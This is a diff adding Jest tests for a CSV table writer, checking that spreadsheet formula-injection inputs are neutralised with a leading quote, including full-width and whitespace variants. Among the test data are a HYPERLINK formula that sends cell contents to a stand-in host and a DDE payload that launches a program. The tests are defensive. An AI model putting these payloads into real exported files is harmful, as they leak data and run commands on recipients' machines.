@@ -1,0 +1,66 @@
+import { describe, expect, it } from '@jest/globals';
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { CsvTable, formulaSafe } from './csv-table.js';
+
+interface Row {
+  name: string | null;
+  cost: string | number;
+}
+
+const table = new CsvTable<Row>([
+  { header: 'name', value: row => row.name },
+  { header: 'cost', value: row => row.cost, numeric: true },
+]);
+
+describe('CSV tables', () => {
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '  =1',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠x',
+    '=HYPERLINK("https://evil.example?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+  ])('makes %j inert', evil => {
+    const [row] = parse(table.rows([{ name: evil, cost: 1 }])) as string[][];
+    expect(row).toEqual([`'${evil}`, '1']);
+  });
+
+  it('leaves our own negative figures as numbers', () => {
+    expect(table.rows([{ name: 'a', cost: '-0.000000000001' }])).toBe('a,-0.000000000001\r\n');
+    expect(table.rows([{ name: 'a', cost: -5 }])).toBe('a,-5\r\n');
+  });
+
+  it('guards a numeric column against text that is no number', () => {
+    expect(table.rows([{ name: 'a', cost: '-1+cmd()' }])).toBe("a,'-1+cmd()\r\n");
+  });
+
+  it('writes the header line', () => expect(table.header()).toBe('name,cost\r\n'));
+
+  it('writes nothing for no rows and an empty cell for null', () => {
+    expect(table.rows([])).toBe('');
+    expect(table.rows([{ name: null, cost: 0 }])).toBe(',0\r\n');
+  });
+
+  it('quotes what other locales would split', () => {
+    expect(table.rows([{ name: 'a;=1', cost: 0 }])).toBe('"a;=1",0\r\n');
+  });
+
+  it('gives back every name that a reader puts through a CSV parser', () => {
+    fc.assert(
+      fc.property(fc.array(fc.string({ unit: 'binary' })), names => {
+        const text = table.header() + table.rows(names.map(name => ({ name, cost: 7 })));
+        const rows = parse(text, { from_line: 1, record_delimiter: '\r\n' }) as string[][];
+        expect(rows.slice(1)).toEqual(names.map(name => [formulaSafe(name), '7']));
+      }),
+    );
+  });
+});
